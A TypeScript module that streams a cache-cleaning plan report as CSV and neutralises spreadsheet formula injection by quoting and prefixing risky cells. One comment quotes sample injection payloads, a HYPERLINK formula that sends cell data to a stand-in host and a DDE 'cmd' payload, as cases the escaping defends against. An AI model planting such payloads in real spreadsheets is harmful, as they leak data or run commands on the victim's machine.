import type { Plan, PlannedEntry } from '../plan/types.js';
import { escapeName } from '../shared/escape.js';
import { inChunks } from './chunks.js';
import { outcomesByName, type Outcome } from './doc.js';
import { isoWriter, type PlanDocExtra } from './json.js';
import { planRows } from '../plan/rows.js';

/**
 * What a spreadsheet would evaluate at the start of a cell (OWASP, "CSV Injection"): the formula starts `=`, `+`, `-`,
 * `@` (and their full-width forms, which some Excel versions read as the same), a tab and a carriage return. A file
 * named `=HYPERLINK("http://x/?"&A1)` or `=cmd|' /C calc'!A0` must reach the sheet as text.
 */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/**
 * One CSV field (RFC 4180): quoted when it holds a comma, a quote, a line break, a semicolon or a tab (the other
 * separators spreadsheets guess, so `x;=1+2` cannot become a second, evaluated cell) or edge spaces; quotes doubled.
 * Text is in the one escape form (shared/escape.ts: a line break is `\x0a`, a byte that is not UTF-8 `\xff`).
 * A text that a spreadsheet would evaluate gets a leading `'` (which makes it text) and is quoted. Numbers are
 * numbers: a negative one is written as it is.
 */
export function csvField(v: unknown): string {
  if (v === null || v === undefined) return '';
  if (typeof v === 'number' || typeof v === 'boolean') return String(v);
  const s = escapeName(String(v));
  if (FORMULA_START.test(s)) return `"'${s.replace(/"/g, '""')}"`;
  return /[",;\t\r\n]|^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

export const CSV_COLUMNS = [
  'host',
  'root',
  'entry',
  'class',
  'kind',
  'bytes',
  'apparent_bytes',
  'last_used',
  'idle_seconds',
  'hits',
  'in_use',
  'pinned',
  'decision',
  'reason',
  'detail',
  'order',
  'outcome',
  'outcome_detail',
] as const;

/** A text csvField writes as it is: printable ASCII but a quote, comma, semicolon or backslash (which escapeName doubles). */
const PLAIN = /^[ !#-+\--:<-[\]-~]*$/;
/** ... unless it starts like a formula or has an edge space. */
const EDGE = /^[=+\-@ ]| $/;

/** csvField, with the common case (a name, a reason, a time or a number) made without its escaping and quoting. */
function cell(v: unknown): string {
  if (typeof v === 'number') return String(v);
  return typeof v === 'string' && PLAIN.test(v) && !EDGE.test(v) ? v : csvField(v);
}

/**
 * cell() of the texts that repeat from row to row (class, kind, decision, reason, detail, outcome): each made once.
 * At most this many are kept, so names that are all different cannot make it grow with the entries.
 */
const MEMO_LIMIT = 4096;
function memoCell(): (v: unknown) => string {
  const memo = new Map<string, string>();
  return (v) => {
    if (typeof v !== 'string') return cell(v);
    let c = memo.get(v);
    if (c === undefined) {
      c = cell(v);
      if (memo.size < MEMO_LIMIT) memo.set(v, c);
    }
    return c;
  };
}

type RowOf = (p: PlannedEntry) => string;

/** Each entry's row, after the host and root cells (`lead`, the same on every row). */
function rowWriter(lead: string, outcomes: ReadonlyMap<string, Outcome>): RowOf {
  const isoOf = isoWriter();
  const word = memoCell();
  return (p) => {
    const e = p.entry;
    const u = p.usage;
    const o = outcomes.get(e.name);
    const inUse = u.inUse.length === 0 ? '' : cell(u.inUse.join('; '));
    return (
      `${lead}${cell(e.name)},${word(e.class)},${word(e.kind)},${cell(e.bytes)},${cell(e.apparentBytes)},${cell(isoOf(u.lastUsedMs))}` +
      `,${cell(Math.floor(p.idleMs / 1000))},${cell(u.hits)},${inUse},${cell(u.pinned)},${word(p.decision)}` +
      `,${word(p.reason)},${word(p.detail ?? null)},${cell(p.order ?? null)},${word(o?.outcome ?? '')},${word(o?.detail ?? '')}`
    );
  };
}

function* rows(plan: Plan, extra: PlanDocExtra): Generator<string> {
  yield CSV_COLUMNS.map(csvField).join(',');
  const outcomes = extra.applied ? outcomesByName(extra.applied) : new Map<string, Outcome>();
  const row = rowWriter(`${csvField(extra.host ?? null)},${csvField(plan.root)},`, outcomes);
  for (const p of planRows(plan)) yield row(p);
}

/**
 * The CSV report of a plan (and of its outcome, after a clean), in chunks of about a megabyte, straight from the
 * plan: a row per entry, victims first in eviction order, with a header row; CRLF line ends, as RFC 4180 says.
 * The same text as the CSV of the plan's document (`planToJson`) would be, without the document: a 200k-entry
 * report made that way held the document, an array per row and the whole text at once.
 */
export function planCsvChunks(plan: Plan, extra: PlanDocExtra): Generator<string> {
  return inChunks(rows(plan, extra), '\r\n');
}
